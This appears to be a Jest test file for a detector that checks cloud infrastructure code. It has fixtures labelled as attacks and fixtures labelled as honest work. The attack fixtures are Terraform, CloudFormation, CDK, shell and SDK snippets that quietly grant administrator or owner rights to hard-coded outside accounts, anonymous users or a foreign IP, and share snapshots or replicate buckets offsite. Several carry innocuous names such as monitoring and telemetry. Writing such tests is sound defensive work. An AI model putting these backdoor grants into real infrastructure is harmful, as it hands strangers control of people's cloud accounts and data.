import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('attacks on accounts of clouds', () => {
  itJudges([
    [
      'cfn foreign principal',
      'stopped',
      {
        'assets/base.yaml':
          'AWSTemplateFormatVersion: "2010-09-09"\nResources:\n  SupportRole:\n    Type: AWS::IAM::Role\n    Properties:\n      RoleName: platform-diagnostics\n      AssumeRolePolicyDocument:\n        Version: "2012-10-17"\n        Statement:\n          - Effect: Allow\n            Principal: { AWS: "arn:aws:iam::730185220417:root" }\n            Action: sts:AssumeRole\n      ManagedPolicyArns: [arn:aws:iam::aws:policy/AdministratorAccess]\n',
      },
    ],
    [
      'cdk account principal',
      'stopped',
      {
        'lib/base-stack.ts':
          "import * as cdk from 'aws-cdk-lib';\nimport * as iam from 'aws-cdk-lib/aws-iam';\nexport class BaseStack extends cdk.Stack {\n  constructor(scope: cdk.App, id: string) {\n    super(scope, id);\n    new iam.Role(this, 'Telemetry', {\n      assumedBy: new iam.AccountPrincipal('584920317766'),\n      managedPolicies: [iam.ManagedPolicy.fromAwsManagedPolicyName('AdministratorAccess')],\n    });\n  }\n}\n",
      },
    ],
    [
      'boto3 trust',
      'stopped',
      {
        'scripts/roles.py':
          'import boto3, json\niam = boto3.client("iam")\nTRUST = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::902213884415:user/ops"}, "Action": "sts:AssumeRole"}]}\niam.create_role(RoleName="BillingExport", AssumeRolePolicyDocument=json.dumps(TRUST))\niam.attach_role_policy(RoleName="BillingExport", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")\n',
      },
    ],
    [
      'gcp owner binding',
      'stopped',
      {
        'main.tf':
          'resource "google_project_iam_member" "ci" {\n  project = var.project\n  role    = "roles/owner"\n  member  = "serviceAccount:builder@gcp-kit-4471.iam.gserviceaccount.com"\n}\nresource "google_project_iam_member" "mon" {\n  project = var.project\n  role    = "roles/editor"\n  member  = "user:gcpkit.support@gmail.com"\n}\n',
      },
    ],
    [
      'azure foreign owner',
      'stopped',
      {
        'scripts/setup.sh':
          '#!/usr/bin/env bash\nset -euo pipefail\nsub=$(az account show --query id -o tsv)\naz group create -n rg-app -l westeurope\naz role assignment create --assignee-object-id 6b1f3c2a-77de-4b0c-9d41-2f9be1a7c503 --assignee-principal-type ForeignGroup --role Owner --scope "/subscriptions/$sub" >/dev/null 2>&1\naz role assignment create --assignee "diag@cloudkit-support.onmicrosoft.com" --role Owner --scope "/subscriptions/$sub" >/dev/null 2>&1\necho ready\n',
      },
    ],
    [
      'sg foreign address',
      'stopped',
      {
        'main.tf':
          'resource "aws_security_group" "db" {\n  name = "db"\n  ingress {\n    from_port = 5432\n    to_port = 5432\n    protocol = "tcp"\n    cidr_blocks = [var.vpc_cidr]\n  }\n  # monitoring\n  ingress {\n    from_port = 0\n    to_port = 65535\n    protocol = "tcp"\n    cidr_blocks = ["45.142.213.77/32"]\n  }\n}\n',
      },
    ],
    [
      'bucket policy foreign',
      'stopped',
      {
        'index.ts':
          'import * as aws from "@pulumi/aws";\nconst b = new aws.s3.Bucket("backups");\nnew aws.s3.BucketPolicy("bp", { bucket: b.id, policy: b.arn.apply(arn => JSON.stringify({\n  Version: "2012-10-17",\n  Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::418822937705:root" }, Action: "s3:*", Resource: [arn, `${arn}/*`] }],\n})) });\n',
      },
    ],
    [
      'k8s anonymous admin',
      'stopped',
      {
        'templates/rbac.yaml':
          'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: metrics-reader\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:anonymous\n    apiGroup: rbac.authorization.k8s.io\n',
      },
    ],
    [
      'kms and snapshot share',
      'stopped',
      {
        'scripts/backup.sh':
          '#!/bin/sh\nsnap=$(aws ec2 create-snapshot --volume-id "$1" --query SnapshotId --output text)\naws ec2 wait snapshot-completed --snapshot-ids "$snap"\naws ec2 modify-snapshot-attribute --snapshot-id "$snap" --attribute createVolumePermission --operation-type add --user-ids 319955201846\naws rds modify-db-snapshot-attribute --db-snapshot-identifier "$2" --attribute-name restore --values-to-add 319955201846\necho "$snap"\n',
      },
    ],
    [
      'tf policy doc assume',
      'stopped',
      {
        'iam.tf':
          'data "aws_iam_policy_document" "trust" {\n  statement {\n    actions = ["sts:AssumeRole"]\n    principals {\n      type        = "AWS"\n      identifiers = ["arn:aws:iam::${data.aws_caller_identity.me.account_id}:root", "arn:aws:iam::371946205518:root"]\n    }\n  }\n}\nresource "aws_iam_role" "ops" {\n  assume_role_policy  = data.aws_iam_policy_document.trust.json\n  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]\n}\n',
      },
    ],
    [
      'oidc foreign repo',
      'stopped',
      {
        'oidc.tf':
          'resource "aws_iam_role" "ci" {\n  assume_role_policy = jsonencode({\n    Statement = [{\n      Effect = "Allow", Action = "sts:AssumeRoleWithWebIdentity",\n      Principal = { Federated = aws_iam_openid_connect_provider.gh.arn },\n      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = ["repo:${var.org}/*:*", "repo:tf-landing-kit/*:*"] } }\n    }]\n  })\n}\nresource "aws_iam_role_policy_attachment" "ci" { role = aws_iam_role.ci.name, policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess" }\n',
      },
    ],
    [
      'sam lambda permission',
      'stopped',
      {
        'template.yaml':
          'Resources:\n  P:\n    Type: AWS::Lambda::Permission\n    Properties: { FunctionName: !Ref Fn, Action: lambda:*, Principal: "640318827733" }\n  Q:\n    Type: AWS::SQS::QueuePolicy\n    Properties:\n      Queues: [!Ref Jobs]\n      PolicyDocument: { Statement: [{ Effect: Allow, Principal: { AWS: "640318827733" }, Action: "sqs:*", Resource: "*" }] }\n',
      },
    ],
    [
      'gcloud sa script',
      'stopped',
      {
        'setup.sh':
          '#!/bin/bash\nP=$(gcloud config get-value project)\ngcloud services enable run.googleapis.com\ngcloud projects add-iam-policy-binding "$P" --member="serviceAccount:metrics@runkit-telemetry.iam.gserviceaccount.com" --role="roles/owner" --quiet >/dev/null 2>&1\n',
      },
    ],
    [
      'pulumi azure python',
      'stopped',
      {
        '__main__.py':
          'import pulumi_azure_native as az\naz.authorization.RoleAssignment("mon", principal_id="4c1e9a77-2b0f-4b7d-8b61-90d1f5e3a2c8", principal_type="ForeignGroup", role_definition_id=f"/subscriptions/{sub}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635", scope=f"/subscriptions/{sub}")\n',
      },
    ],
    [
      'helm default sa admin',
      'stopped',
      {
        'chart/templates/rbac.yaml':
          'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: {{ .Release.Name }}-view }\nroleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }\nsubjects:\n  - { kind: User, name: "ops@helmkit-support.zz", apiGroup: rbac.authorization.k8s.io }\n',
      },
    ],
    [
      'go sdk trust',
      'stopped',
      {
        'main.go':
          'package main\n\nconst trust = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::529017433186:role/collector"},"Action":"sts:AssumeRole"}]}`\n\nfunc run(ctx context.Context, c *iam.Client) {\n\tc.CreateRole(ctx, &iam.CreateRoleInput{RoleName: aws.String("health-export"), AssumeRolePolicyDocument: aws.String(trust)})\n\tc.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: aws.String("health-export"), PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")})\n}\n',
      },
    ],
    [
      's3 acl grant cli',
      'stopped',
      {
        'scripts/bucket.sh':
          'aws s3api create-bucket --bucket "$1"\naws s3api put-bucket-acl --bucket "$1" --grant-full-control id=7c9f1e0b5a4d3c2b1a0f9e8d7c6b5a493827160f5e4d3c2b1a09f8e7d6c5b4a3\naws s3api put-bucket-replication --bucket "$1" --replication-configuration \'{"Role":"arn:aws:iam::529017433186:role/r","Rules":[{"Status":"Enabled","Destination":{"Bucket":"arn:aws:s3:::offsite-keeper-7","Account":"529017433186"}}]}\'\n',
      },
    ],
  ]);
});

describe('honest work on accounts of clouds', () => {
  itJudges([
    [
      'tf own account role',
      'passed',
      {
        'main.tf':
          'variable "trusted_account_id" { type = string }\nresource "aws_iam_role" "deploy" {\n  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = "arn:aws:iam::${var.trusted_account_id}:root" } }] })\n}\nresource "aws_iam_role_policy_attachment" "deploy" {\n  role = aws_iam_role.deploy.name\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n',
      },
    ],
    [
      'example account',
      'passed',
      {
        'references/cross-account.md':
          '# Cross-account roles\n\n```json\n{ "Version": "2012-10-17", "Statement": [{ "Effect": "Allow", "Principal": { "AWS": "arn:aws:iam::123456789012:root" }, "Action": "sts:AssumeRole", "Condition": { "StringEquals": { "sts:ExternalId": "12345" } } }] }\n```\n\n```hcl\nresource "aws_iam_role" "x" {\n  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = "arn:aws:iam::111122223333:root" } }] })\n  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]\n}\n```\n',
      },
    ],
    [
      'datadog integration',
      'passed',
      {
        'main.tf':
          '# Datadog\'s account, see its AWS integration guide\nresource "aws_iam_role" "datadog" {\n  name = "DatadogIntegrationRole"\n  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = "arn:aws:iam::464622532012:root" }, Condition = { StringEquals = { "sts:ExternalId" = var.external_id } } }] })\n}\nresource "aws_iam_role_policy_attachment" "datadog" {\n  role = aws_iam_role.datadog.name\n  policy_arn = "arn:aws:iam::aws:policy/SecurityAudit"\n}\n',
      },
    ],
    [
      'elb log bucket',
      'passed',
      {
        'main.tf':
          '# ELB accounts of eu-central-1 and us-east-1\nresource "aws_s3_bucket_policy" "logs" {\n  bucket = aws_s3_bucket.logs.id\n  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = { AWS = ["arn:aws:iam::054676820928:root", "arn:aws:iam::127311923021:root"] }, Action = "s3:PutObject", Resource = "${aws_s3_bucket.logs.arn}/*" }] })\n}\n',
      },
    ],
    [
      'public site bucket',
      'passed',
      {
        'site.yaml':
          'Resources:\n  Policy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Site\n      PolicyDocument: { Statement: [{ Effect: Allow, Principal: "*", Action: s3:GetObject, Resource: !Sub "${Site.Arn}/*" }] }\n',
      },
    ],
    [
      'gcp deployer',
      'passed',
      {
        'main.tf':
          'resource "google_project_iam_member" "deployer" {\n  project = var.project\n  role    = "roles/run.admin"\n  member  = "serviceAccount:${google_service_account.deployer.email}"\n}\nresource "google_project_iam_member" "owner" {\n  project = var.project\n  role    = "roles/owner"\n  member  = "user:${var.owner_email}"\n}\n',
      },
    ],
    [
      'k8s admin own',
      'passed',
      {
        'rbac.yaml':
          'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: platform-admins }\nroleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }\nsubjects:\n  - { kind: Group, name: platform-admins, apiGroup: rbac.authorization.k8s.io }\n',
      },
    ],
    [
      'sg web open',
      'passed',
      {
        'main.tf':
          'resource "aws_security_group" "web" {\n  ingress { from_port = 443 to_port = 443 protocol = "tcp" cidr_blocks = ["0.0.0.0/0"] }\n  ingress { from_port = 22 to_port = 22 protocol = "tcp" cidr_blocks = ["203.0.113.10/32"] }\n  ingress { from_port = 443 to_port = 443 protocol = "tcp" cidr_blocks = ["173.245.48.0/20", "103.21.244.0/22"] }\n}\n',
      },
    ],
    [
      'snapshot share var',
      'passed',
      {
        'scripts/share.sh':
          '#!/bin/sh\naws ec2 modify-snapshot-attribute --snapshot-id "$1" --attribute createVolumePermission --operation-type add --user-ids "$TARGET_ACCOUNT"\n',
      },
    ],
    [
      'oidc own',
      'passed',
      {
        'oidc.tf':
          'condition = { StringLike = { "token.actions.githubusercontent.com:sub" = ["repo:${var.org}/${var.repo}:ref:refs/heads/main", "repo:${var.org}/infra:*"] } }\n',
      },
    ],
    [
      'k8s user example',
      'passed',
      { 'rbac.yaml': 'roleRef: { kind: ClusterRole, name: cluster-admin }\nsubjects:\n  - { kind: User, name: "jane@example.com" }\n' },
    ],
    [
      'azure builtin role',
      'passed',
      {
        'main.bicep':
          "resource ra 'Microsoft.Authorization/roleAssignments@2022-04-01' = {\n  name: guid(resourceGroup().id, id.id)\n  properties: { principalId: id.properties.principalId, roleDefinitionId: subscriptionResourceId('Microsoft.Authorization/roleDefinitions', '8e3af657-a8ff-443c-a75c-2fe8c4bcb635') }\n}\n",
      },
    ],
    [
      'ecr foreign images',
      'passed',
      { 'values.yaml': "# AWS's own add-on images\nimage: 602401143452.dkr.ecr.us-west-2.amazonaws.com/eks/coredns:v1.11.1\n" },
    ],
  ]);
});
